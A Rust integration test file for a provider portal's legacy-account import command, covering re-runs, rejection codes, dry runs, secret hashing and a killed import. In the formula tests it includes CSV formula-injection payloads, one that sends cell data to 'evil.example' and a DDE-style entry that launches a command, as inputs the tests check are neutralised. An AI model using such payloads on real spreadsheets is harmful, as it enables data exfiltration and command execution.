//! The operators' import on SQLite and PostgreSQL: through the library on
//! the test app's database, and through the real command (`provider-portal
//! import`) for its exit code, its report and an import killed midway.

use crate::common::*;
use provider_portal::import::{FileFormat, Reported, Summary};

crate::on_both_databases!(
    a_file_goes_in_and_a_re_run_changes_nothing,
    repeated_rows_are_refused_again_on_a_re_run,
    changed_rows_are_updated_and_consolidated_ones_skipped,
    every_refusal_has_its_code_and_the_rest_goes_in,
    a_dry_run_writes_nothing,
    imported_hashes_of_other_systems_consolidate,
    the_command_reports_and_an_import_killed_midway_finishes,
    the_commands_report_runs_no_formula_and_a_bad_header_changes_nothing,
    a_stray_quote_is_read_in_constant_memory,
);

/// The bcrypt (cost 4, Python's bcrypt) and SHA-512-crypt (OpenSSL) hashes
/// of "Welcome#2019", from tests/fixtures/legacy-hashes.tsv.
const BCRYPT: &str = "$2b$04$CPSSibVtn03Dlel9KwrAGevKYvUgAVxJNbYKM3HlIzRpxVqLQj0bi";
const SHA512: &str = "$6$saltsaltsalt$w3Ri28EnrN85AeM.oPKCwy2dvgz3hSHiSncSId8ibNirT7pM7CVFEXpwwq0H96KvYucpVTO.yW.UErijQN9fl.";
const HEADER: &str = "source,legacy_id,username,tins,practice,role,email,question,answer,answer_hash,pin,pin_hash,password,password_hash\n";

/// A row whose secrets all come hashed (no argon2 work at import).
fn hashed_row(id: u32, practice: &str) -> String {
    format!(
        "old-portal,L{id},user{id},{tin},{practice},Billing staff,,Your first school?,,{BCRYPT},,{BCRYPT},,{SHA512}\n",
        tin = 700_000_000 + id
    )
}

async fn import_text(
    app: &TestApp,
    format: FileFormat,
    text: String,
    dry_run: bool,
) -> (Summary, Vec<Reported>) {
    app.import(format, text.into_bytes(), dry_run, "test").await
}

/// A file that gives one account twice (the second time with other
/// values), in the same chunk and in a later one: the first run takes the
/// first and refuses the repeat; a re-run finds the first unchanged and
/// refuses the repeat again, rather than writing it over the account.
async fn repeated_rows_are_refused_again_on_a_re_run(app: &TestApp) {
    let mut text = HEADER.to_string();
    for i in 200..220 {
        text.push_str(&hashed_row(i, "Valley Clinic"));
    }
    // Chunks of 7: rows 14-20 hold L214 and its repeat; L203's repeat is
    // two chunks after it.
    text.push_str(&hashed_row(214, "Other Clinic"));
    text.push_str(&hashed_row(203, "Other Clinic"));
    let codes = |r: &[Reported]| {
        r.iter()
            .map(|r| (r.line, r.code, r.rejected))
            .collect::<Vec<_>>()
    };
    let refused = vec![
        (22, "duplicate-legacy-id", true),
        (23, "duplicate-legacy-id", true),
    ];
    let (s, reported) = import_text(app, FileFormat::Csv, text.clone(), false).await;
    assert_eq!((s.inserted, s.rejected), (20, 2), "{s:?}");
    assert_eq!(codes(&reported), refused);
    let snap = app.snapshot(&["audit_events", "audit_repeats"]).await;
    for dry_run in [true, false, false] {
        let (s, reported) = import_text(app, FileFormat::Csv, text.clone(), dry_run).await;
        assert_eq!(
            (s.unchanged, s.inserted, s.updated, s.rejected),
            (20, 0, 0, 2),
            "dry run {dry_run}: {s:?}"
        );
        assert_eq!(codes(&reported), refused, "dry run {dry_run}");
        assert_eq!(app.snapshot(&["audit_events", "audit_repeats"]).await, snap);
    }
    let practices = app
        .count("SELECT COUNT(*) FROM legacy_accounts WHERE source = 'old-portal' AND practice = 'Other Clinic'")
        .await;
    assert_eq!(practices, 0, "no repeat was written over its account");
}

async fn a_file_goes_in_and_a_re_run_changes_nothing(app: &TestApp) {
    let before = app.count("SELECT COUNT(*) FROM legacy_accounts").await;
    let mut text = HEADER.to_string();
    for i in 0..20 {
        text.push_str(&hashed_row(i, "Valley Clinic"));
    }
    // One with its answer and PIN in clear: hashed at import.
    text.push_str("old-portal,L99,Clear.Case,83-1234567;123456789,Hill Practice,Front desk,hill@example.com,Your pet?,  Rover ,,86429753,,,$1$7iwyisgg$2H2buGnU4ZvdqgfFKpCGq/\n");
    let (s, reported) = import_text(app, FileFormat::Csv, text.clone(), false).await;
    assert_eq!((s.rows, s.inserted, s.rejected), (21, 21, 0), "{s:?}");
    assert_eq!(s.weak, 1, "MD5-crypt is marked weak");
    assert_eq!(reported.len(), 1);
    assert_eq!(
        (reported[0].code, reported[0].rejected),
        ("weak-hash", false)
    );
    assert_eq!(s.file_sha256.len(), 64);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM legacy_accounts").await,
        before + 21
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM legacy_tins t JOIN legacy_accounts a ON a.id = t.legacy_account_id WHERE a.source = 'old-portal'").await,
        22
    );
    // Nothing in clear: not the answer, the PIN or a TIN. (The PIN has
    // eight digits: four could be part of a timestamp in the dump.)
    let dump = app.dump().await;
    for secret in [
        "Rover",
        "rover",
        "86429753",
        "831234567",
        "123456789",
        "700000003",
    ] {
        assert!(!dump.contains(secret), "{secret} is stored in clear");
    }
    let hashes = app
        .count("SELECT COUNT(*) FROM legacy_accounts WHERE username = 'Clear.Case' AND answer_hash LIKE '$argon2id$%' AND pin_hash LIKE '$argon2id$%'")
        .await;
    assert_eq!(hashes, 1, "secrets in clear are hashed with argon2id");
    let snap = app.snapshot(&["audit_events", "audit_repeats"]).await;
    let (s, reported) = import_text(app, FileFormat::Csv, text, false).await;
    assert_eq!(
        (s.unchanged, s.inserted, s.updated, s.rejected),
        (21, 0, 0, 0),
        "{s:?}"
    );
    assert!(
        reported.is_empty(),
        "a weak hash is reported when written only"
    );
    assert_eq!(
        app.snapshot(&["audit_events", "audit_repeats"]).await,
        snap,
        "a re-run changes nothing"
    );
    let audits = app
        .count("SELECT COUNT(*) FROM audit_events WHERE action = 'import' AND address = 'operator:test' AND outcome LIKE 'ok: test.csv (sha256 %): 21 rows: %'")
        .await;
    assert_eq!(audits, 2, "each run is audited");
    // The same accounts in JSON Lines, TINs as a list: the same rows.
    let json = "{\"source\":\"old-portal\",\"legacy_id\":\"L99\",\"username\":\"Clear.Case\",\"tins\":[\"123456789\",\"83-1234567\"],\"practice\":\"Hill Practice\",\"role\":\"Front desk\",\"email\":\"hill@example.com\",\"question\":\"Your pet?\",\"answer\":\"  Rover \",\"pin\":86429753,\"password_hash\":\"$1$7iwyisgg$2H2buGnU4ZvdqgfFKpCGq/\"}\n";
    let (s, _) = import_text(app, FileFormat::Jsonl, json.to_string(), false).await;
    assert_eq!((s.unchanged, s.rows), (1, 1), "{s:?}");
}

async fn changed_rows_are_updated_and_consolidated_ones_skipped(app: &TestApp) {
    // johnsmith@gmail.com (demo, provider-portal-2012 / 1001) is consolidated.
    app.walk_to_password("import@example.com").await;
    app.submit(
        "/api/wizard/password",
        &[
            ("username", "johnsmith@gmail.com"),
            ("password", "Welcome#2019"),
        ],
    )
    .await;
    let (loc, _) = app.submit("/api/wizard/finish", &[]).await;
    assert_eq!(loc, "/wizard/done");
    let mut demo: Vec<String> = provider_portal::demo::DEMO_ACCOUNTS_CSV
        .lines()
        .map(String::from)
        .collect();
    let (s, _) = import_text(app, FileFormat::Csv, demo.join("\n"), false).await;
    assert_eq!(
        (s.unchanged, s.rows),
        (5, 5),
        "the demo data came in through the import: {s:?}"
    );
    // Every row changed: a new practice name.
    for line in demo.iter_mut().skip(1) {
        *line = line
            .replacen("Medicine", "Medicine Group", 1)
            .replacen("Pediatrics", "Pediatrics Group", 1)
            .replacen("Cardiology", "Cardiology Group", 1);
    }
    let (s, _) = import_text(app, FileFormat::Csv, demo.join("\n"), false).await;
    assert_eq!((s.updated, s.skipped, s.rejected), (4, 1, 0), "{s:?}");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM legacy_accounts WHERE practice = 'Smith Family Medicine'")
            .await,
        1,
        "the consolidated account is left as it was"
    );
    assert_eq!(
        app.count(
            "SELECT COUNT(*) FROM legacy_accounts WHERE practice = 'Farmington Pediatrics Group'"
        )
        .await,
        1
    );
    // The updated account still works in the wizard, with its hashes.
    let (loc, _) = app
        .submit(
            "/api/wizard/lookup",
            &[("username", "MJONES"), ("tin", "123456789")],
        )
        .await;
    assert_eq!(loc, "/wizard/verify");
    let (loc, _) = app.submit("/api/wizard/verify", &[("answer", "rex")]).await;
    assert_eq!(loc, "/wizard/email");
}

async fn every_refusal_has_its_code_and_the_rest_goes_in(app: &TestApp) {
    let mut text = HEADER.to_string();
    let rows = [
        ("missing-field", "old-portal,R1,,700000001,P,R,,Q?,a,,8642,,S3cret-pw,\n".to_string()),
        ("bad-tin", "old-portal,R2,r2,12345,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("bad-username", "old-portal,R3,r 3,700000003,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("bad-email", "old-portal,R4,r4,700000004,P,R,nope,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("bad-pin", "old-portal,R5,r5,700000005,P,R,,Q?,a,,12,,S3cret-pw,\n".into()),
        ("conflicting-fields", "old-portal,R6,r6,700000006,P,R,,Q?,a,,8642,,S3cret-pw,$1$7iwyisgg$2H2buGnU4ZvdqgfFKpCGq/\n".into()),
        ("unknown-hash-format", "old-portal,R7,r7,700000007,P,R,,Q?,a,,8642,,,md5:0cc175b9c0f1b6a831c399e269772661\n".into()),
        ("malformed-hash", "old-portal,R8,r8,700000008,P,R,,Q?,a,,8642,,,$2b$10$short\n".into()),
        ("hash-too-costly", "old-portal,R9,r9,700000009,P,R,,Q?,a,,8642,,,$2b$31$CPSSibVtn03Dlel9KwrAGevKYvUgAVxJNbYKM3HlIzRpxVqLQj0bi\n".into()),
        ("formula-like", "old-portal,R10,r10,700000010,\"=HYPERLINK(\"\"http://evil\"\")\",R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("bad-row", "old-portal,R11,r11\n".into()),
        ("username-taken", "other-portal,R12,MJones,700000012,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("ok", "old-portal,R13,r13,700000013,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("duplicate-username", "old-portal,R14,R13,700000014,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("duplicate-legacy-id", "old-portal,R13,r15,700000015,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
        ("bad-source", "old portal,R16,r16,700000016,P,R,,Q?,a,,8642,,S3cret-pw,\n".into()),
    ];
    for (_, r) in &rows {
        text.push_str(r);
    }
    let (s, reported) = import_text(app, FileFormat::Csv, text, false).await;
    assert_eq!((s.inserted, s.rejected), (1, 15), "{s:?}");
    for (line, (code, _)) in rows.iter().enumerate() {
        let line = line as u64 + 2;
        if *code == "ok" {
            assert!(reported.iter().all(|r| r.line != line));
            continue;
        }
        let r = reported
            .iter()
            .find(|r| r.line == line)
            .unwrap_or_else(|| panic!("line {line} ({code}) reported: {reported:?}"));
        assert_eq!(r.code, *code, "line {line}: {r:?}");
        assert!(r.rejected);
        assert!(
            !r.message.contains("S3cret") && !r.message.contains("8642"),
            "{r:?}"
        );
    }
    assert_eq!(
        reported
            .iter()
            .find(|r| r.code == "bad-tin")
            .map(|r| r.legacy_id.as_str()),
        Some("R2")
    );
}

async fn a_dry_run_writes_nothing(app: &TestApp) {
    let mut text = HEADER.to_string();
    for i in 0..10 {
        text.push_str(&hashed_row(i, "Dry Clinic"));
    }
    text.push_str(&hashed_row(3, "Dry Clinic")); // the same key twice
    text.push_str("old-portal,D1,user4,700000099,P,R,,Q?,a,,1234,,pw,\n"); // a username twice
    let snap = app.snapshot(&["audit_events", "audit_repeats"]).await;
    let audits = app.count("SELECT COUNT(*) FROM audit_events").await;
    let (s, reported) = import_text(app, FileFormat::Csv, text.clone(), true).await;
    assert_eq!((s.inserted, s.rejected), (10, 2), "{s:?}");
    let codes: Vec<&str> = reported.iter().map(|r| r.code).collect();
    assert_eq!(codes, ["duplicate-legacy-id", "duplicate-username"]);
    assert_eq!(
        app.snapshot(&["audit_events", "audit_repeats"]).await,
        snap,
        "a dry run writes no account"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_events").await,
        audits + 1,
        "only its audit event"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_events WHERE action = 'import (dry run)'")
            .await,
        1
    );
    // The real run finds the same.
    let (real, reported) = import_text(app, FileFormat::Csv, text, false).await;
    assert_eq!((real.inserted, real.rejected), (10, 2));
    let codes: Vec<&str> = reported.iter().map(|r| r.code).collect();
    assert_eq!(codes, ["duplicate-legacy-id", "duplicate-username"]);
}

async fn imported_hashes_of_other_systems_consolidate(app: &TestApp) {
    // The demo's bcrypt (kpatel) and SHA-512-crypt (kpatel-billing)
    // accounts, into one login, which then signs in.
    app.submit(
        "/api/wizard/lookup",
        &[("username", "kpatel"), ("tin", "73-1234567")],
    )
    .await;
    app.submit("/api/wizard/verify", &[("answer", "ELM")]).await;
    app.submit(
        "/api/wizard/email",
        &[
            ("email", "patel@example.com"),
            ("verify_email", "patel@example.com"),
        ],
    )
    .await;
    let code = app.latest_code("patel@example.com").await;
    app.submit("/api/wizard/code", &[("code", &code)]).await;
    let (loc, page) = app
        .submit(
            "/api/wizard/password",
            &[("username", "kpatel"), ("password", "Cardio#2018")],
        )
        .await;
    assert_eq!(
        loc, "/wizard/password",
        "a wrong password against bcrypt: {}",
        page.body
    );
    let (loc, _) = app
        .submit(
            "/api/wizard/password",
            &[("username", "kpatel"), ("password", "Cardio#2017")],
        )
        .await;
    assert_eq!(loc, "/wizard/accounts");
    app.submit("/api/wizard/another", &[]).await;
    let (loc, _) = app
        .submit(
            "/api/wizard/lookup",
            &[("username", "KPATEL-billing"), ("tin", "731234567")],
        )
        .await;
    assert_eq!(loc, "/wizard/verify");
    app.submit("/api/wizard/verify", &[("answer", "2718")])
        .await;
    let (loc, _) = app
        .submit(
            "/api/wizard/password",
            &[("username", "kpatel-billing"), ("password", "Billing#2016")],
        )
        .await;
    assert_eq!(loc, "/wizard/accounts");
    let (loc, _) = app.submit("/api/wizard/finish", &[]).await;
    assert_eq!(loc, "/wizard/done");
    // The login's password is the first account's, now argon2id.
    let r = app.sign_in("kpatel", "Cardio#2017").await;
    assert_eq!(r.location.as_deref(), Some("/accounts"));
    assert_eq!(
        app.count("SELECT COUNT(*) FROM portal_users WHERE password_hash LIKE '$argon2id$%'")
            .await,
        1
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM legacy_accounts WHERE source = 'claims-portal' AND consolidated_into IS NOT NULL").await,
        2
    );
}

/// A new file to import and its report's, named after `prefix`, under
/// target/test-imports.
fn import_files(prefix: &str) -> (std::path::PathBuf, std::path::PathBuf) {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-imports");
    std::fs::create_dir_all(&dir).unwrap();
    let name = unique(prefix);
    (
        dir.join(format!("{name}.csv")),
        dir.join(format!("{name}-report.csv")),
    )
}

fn command(app: &TestApp) -> std::process::Command {
    let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_provider-portal"));
    c.env("DATABASE_URL", &app.database_url)
        .env_remove("APP_SECRET")
        .env("USER", "ops-test");
    c
}

async fn the_command_reports_and_an_import_killed_midway_finishes(app: &TestApp) {
    let (file, report) = import_files("import");
    // 240 rows whose PIN comes in clear: each costs an argon2 hash, so
    // that the run lasts long enough to be killed in the middle.
    let mut text = HEADER.to_string();
    for i in 0..240 {
        text.push_str(&format!(
            "kill-test,K{i},kill{i},{},P,R,,Q?,,{BCRYPT},{},,,{BCRYPT}\n",
            710_000_000 + i,
            97_531_000 + i
        ));
    }
    text.push_str(&format!(
        "kill-test,K-bad,killbad,123,P,R,,Q?,,{BCRYPT},1234,,,{BCRYPT}\n"
    ));
    std::fs::write(&file, &text).unwrap();
    let count = "SELECT COUNT(*) FROM legacy_accounts WHERE source = 'kill-test'";
    let mut child = command(app)
        .args(["import", file.to_str().unwrap(), "--chunk", "20"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Up to a minute for the first chunk, on a busy machine.
    let mut wrote = false;
    for _ in 0..3000 {
        if app.count(count).await >= 20 {
            wrote = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    // SIGKILL: no chance to tidy up.
    let _ = child.kill();
    let _ = child.wait();
    let killed_at = wrote.then_some(app.count(count).await);
    let killed_at = killed_at.expect("the import wrote its first chunk");
    assert!(killed_at < 240, "killed before the end ({killed_at})");
    assert_eq!(killed_at % 20, 0, "whole chunks only: {killed_at}");
    let out = command(app)
        .args([
            "import",
            file.to_str().unwrap(),
            "--chunk",
            "20",
            "--report",
            report.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(1),
        "a rejected row: exit 1. {stdout} {stderr}"
    );
    assert!(
        stdout.contains(&format!(
            "241 rows: {} inserted, 0 updated, {killed_at} unchanged, 0 skipped (already consolidated), 1 rejected",
            240 - killed_at
        )),
        "{stdout}"
    );
    assert!(stderr.contains("line 242: bad-tin (K-bad)"), "{stderr}");
    assert_eq!(app.count(count).await, 240, "no duplicates");
    let report_text = std::fs::read_to_string(&report).unwrap();
    assert_eq!(
        report_text.lines().collect::<Vec<_>>(),
        [
            "line,legacy_id,code,outcome,message",
            "242,K-bad,bad-tin,rejected,TIN 1 of the row is not 9 digits (12-3456789 or 123456789)."
        ]
    );
    // Nothing secret on the terminal or in the report. The PINs have eight
    // digits: a four-digit one could be a rate or a count on a progress line.
    for secret in ["97531000", "97531239", BCRYPT] {
        assert!(
            !stdout.contains(secret) && !stderr.contains(secret) && !report_text.contains(secret),
            "{secret} shown: {stdout} {stderr} {report_text}"
        );
    }
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_events WHERE action = 'import' AND address LIKE 'operator:ops-test%'").await,
        1,
        "the killed run could not record its end; the finished one did"
    );
    // A wrong command line: exit 2 and the usage.
    let out = command(app)
        .args(["import", "accounts.xml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("usage: provider-portal import FILE"));
    let _ = std::fs::remove_file(&file);
    let _ = std::fs::remove_file(&report);
}

/// Operators open the report in a spreadsheet: a refused row's legacy_id
/// that reads as a formula is written as text. A header with an unknown
/// or a repeated column: exit 2, the column named, nothing written, and
/// no "run the same command again".
async fn the_commands_report_runs_no_formula_and_a_bad_header_changes_nothing(app: &TestApp) {
    let (file, report) = import_files("formulas");
    let ids = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
    ];
    let mut text = HEADER.to_string();
    for (i, id) in ids.iter().enumerate() {
        let quoted = id.replace('"', "\"\"");
        text.push_str(&format!(
            "formula-test,\"{quoted}\",f{i},{},P,R,,Q?,,{BCRYPT},,{BCRYPT},,{BCRYPT}\n",
            720_000_000 + i
        ));
    }
    std::fs::write(&file, &text).unwrap();
    let out = command(app)
        .args([
            "import",
            file.to_str().unwrap(),
            "--report",
            report.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report_text = std::fs::read_to_string(&report).unwrap();
    let mut cells = 0;
    for record in csv::Reader::from_reader(report_text.as_bytes()).records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula in the report: {cell:?}\n{report_text}"
            );
        }
    }
    assert_eq!(cells, ids.len() * 5, "{report_text}");
    for id in ids {
        assert!(
            report_text.contains(&format!("'{}", id.replace('"', "\"\""))),
            "{id}: {report_text}"
        );
    }
    // A bad header, before any row: exit 2, nothing written.
    let events = "SELECT COUNT(*) FROM audit_events WHERE action = 'import'";
    for (header, says) in [
        (
            "source,legacy_id,username,colour\n",
            "column 4 of the header, \"colour\"",
        ),
        (
            "source,legacy_id,username,Source\n",
            "column 4 of the header, \"source\", is named twice",
        ),
    ] {
        std::fs::write(&file, format!("{header}a,1,b,c\n")).unwrap();
        let before = app.count("SELECT COUNT(*) FROM legacy_accounts").await;
        let out = command(app)
            .args(["import", file.to_str().unwrap()])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{header}: {stderr}");
        assert!(stderr.contains(says), "{header}: {stderr}");
        assert!(stderr.contains("Nothing was imported"), "{stderr}");
        assert!(!stderr.contains("run the same command again"), "{stderr}");
        assert_eq!(
            app.count("SELECT COUNT(*) FROM legacy_accounts").await,
            before
        );
    }
    assert!(
        app.count(events).await >= 3,
        "each run is in the audit trail"
    );
    let _ = std::fs::remove_file(&file);
    let _ = std::fs::remove_file(&report);
}

/// An export with one stray quote: the rest of the file is one record,
/// refused with its line (field-too-long) while the command's memory
/// stays flat. Measured: its peak resident memory (VmHWM) against a file
/// of 150 MB stays within 100 MiB of what the command holds at rest.
async fn a_stray_quote_is_read_in_constant_memory(app: &TestApp) {
    use std::io::Write;
    let (file, report) = import_files("quote");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&file).unwrap());
        f.write_all(HEADER.as_bytes()).unwrap();
        f.write_all(hashed_row(900_001, "Before the quote").as_bytes())
            .unwrap();
        f.write_all(b"old-portal,\"L-stray,").unwrap();
        let block = hashed_row(900_002, "Inside the quote").repeat(1000);
        let mut written = 0;
        while written < 150 << 20 {
            f.write_all(block.as_bytes()).unwrap();
            written += block.len();
        }
    }
    let mut child = command(app)
        .args([
            "import",
            file.to_str().unwrap(),
            "--report",
            report.to_str().unwrap(),
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let status_file = format!("/proc/{}/status", child.id());
    let kib = |field: &str| -> Option<u64> {
        let status = std::fs::read_to_string(&status_file).ok()?;
        let line = status.lines().find(|l| l.starts_with(field))?;
        line.split_whitespace().nth(1)?.parse().ok()
    };
    let (mut peak, mut first) = (0, None);
    let status = loop {
        if let Some(now) = kib("VmHWM:") {
            peak = peak.max(now);
            first.get_or_insert(now);
        }
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    };
    assert_eq!(status.code(), Some(1), "one row refused");
    let report_text = std::fs::read_to_string(&report).unwrap();
    assert!(
        report_text.contains("\n3,,field-too-long,rejected,"),
        "{report_text}"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM legacy_accounts WHERE practice = 'Before the quote'")
            .await,
        1
    );
    let grown = peak.saturating_sub(first.unwrap_or(peak));
    assert!(
        peak > 0 && peak < 100 * 1024 + first.unwrap_or(0).max(64 * 1024),
        "peak {peak} KiB (first seen {first:?} KiB, grown {grown} KiB) for a 150 MB record"
    );
    let _ = std::fs::remove_file(&file);
    let _ = std::fs::remove_file(&report);
}
